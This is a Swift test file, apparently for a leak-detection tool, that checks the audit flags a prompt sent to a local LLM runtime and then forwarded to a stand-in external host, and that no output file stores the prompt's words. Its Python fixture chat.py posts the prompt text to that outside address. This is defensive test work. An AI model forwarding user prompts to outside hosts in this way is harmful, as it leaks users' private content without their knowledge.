import Foundation
import Testing
import TestSupport

/// `run` with content inspection (its default): a program sends a prompt to a runtime on loopback
/// and forwards it to the stand-in internet. The audit names the leak with both parties, and no
/// prompt text reaches the database, the audit or the evidence bundle (the capture keeps headers).
@Suite(.serialized) struct RunContentTests {
    @Test(.enabled(if: DaemonFixtures.isRoot, "needs root: namespaces, capture and process events"))
    func aForwardedPromptIsALeakInTheAuditAndNoFileHoldsItsWords() throws {
        let host = try TestHost(tag: "rc", subnet: 86)
        defer { host.remove() }
        let dir = try ScratchDirectory.make("runcontent")
        var helpers: [Process] = []
        defer { for p in helpers { kill(p.processIdentifier, SIGKILL); p.waitUntilExit() } }
        let collector = """
            import http.server
            class H(http.server.BaseHTTPRequestHandler):
                def do_POST(self):
                    self.rfile.read(int(self.headers.get('Content-Length', 0))); self.send_response(204); self.end_headers()
                def log_message(self, *a): pass
            http.server.HTTPServer(('198.18.86.2', 8080), H).serve_forever()
            """
        let runtime = """
            import http.server
            class H(http.server.BaseHTTPRequestHandler):
                def do_POST(self):
                    self.rfile.read(int(self.headers.get('Content-Length', 0)))
                    self.send_response(200); self.send_header('Content-Length', '2'); self.end_headers(); self.wfile.write(b'{}')
                def log_message(self, *a): pass
            http.server.HTTPServer(('127.0.0.1', 18962), H).serve_forever()
            """
        let chat = """
            import http.client, json, sys
            p = open(sys.argv[1]).read()
            c = http.client.HTTPConnection('127.0.0.1', 18962, timeout=5)
            c.request('POST', '/v1/chat/completions', json.dumps({'messages': [{'role': 'user', 'content': p}]})); c.getresponse().read()
            t = http.client.HTTPConnection('198.18.86.2', 8080, timeout=5)
            t.request('POST', '/x', json.dumps({'q': p})); t.getresponse().read()
            """
        for (name, text) in [("collector.py", collector), ("runtime.py", runtime), ("chat.py", chat)] {
            try text.write(toFile: dir + "/" + name, atomically: true, encoding: .utf8)
        }
        helpers.append(try TestProcess.start(["ip", "netns", "exec", host.namespace, "python3", dir + "/collector.py"], log: dir + "/collector.log"))
        helpers.append(try TestProcess.start(["python3", dir + "/runtime.py"], log: dir + "/runtime.log"))
        usleep(700_000)
        let prompt = "Kindly translate the zeppelin quartermaster's inventory of marmalade jars into Esperanto before the regatta"
        try prompt.write(toFile: dir + "/prompt.txt", atomically: true, encoding: .utf8)

        let result = try TestProcess.runCombined([
            BuiltExecutable.telltale, "run", "--db", dir + "/run.db", "--report", dir + "/audit", "--evidence", dir + "/evidence",
            "--", "python3", dir + "/chat.py", dir + "/prompt.txt",
        ])
        #expect(result.status == 3, "\(result.output)")
        let audit = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: dir + "/audit.json"))) as? [String: Any])
        let content = try #require(audit["content"] as? [String: Any], "\(audit)")
        let leaks = try #require(content["leaks"] as? [[String: Any]])
        #expect(leaks.count == 1, "\(result.output)")
        #expect(leaks.first?["matched_words"] as? Int == 15, "\(leaks)")
        #expect(leaks.first?["prompt_process"] as? String == "chat.py", "\(leaks)")
        #expect(leaks.first?["runtime"] as? String == "runtime.py", "\(leaks)")
        #expect((content["prompts"] as? [[String: Any]])?.count == 1)

        // No file the run wrote holds the prompt's words: database, WAL, audit, bundle (capture included).
        let verified = try TestProcess.runCombined([BuiltExecutable.telltale, "verify", dir + "/evidence"])
        #expect(verified.status == 0, "\(verified.output)")
        var written = ["run.db", "run.db-wal", "audit.json", "audit.md"].map { dir + "/" + $0 }
        written += (try FileManager.default.contentsOfDirectory(atPath: dir + "/evidence")).map { dir + "/evidence/" + $0 }
        for file in written {
            guard let data = FileManager.default.contents(atPath: file) else { continue }
            let text = String(decoding: data, as: UTF8.self).lowercased()
            for word in ["zeppelin", "quartermaster", "marmalade", "regatta"] {
                #expect(!text.contains(word), "\(file) holds a word of the prompt")
            }
        }
    }
}
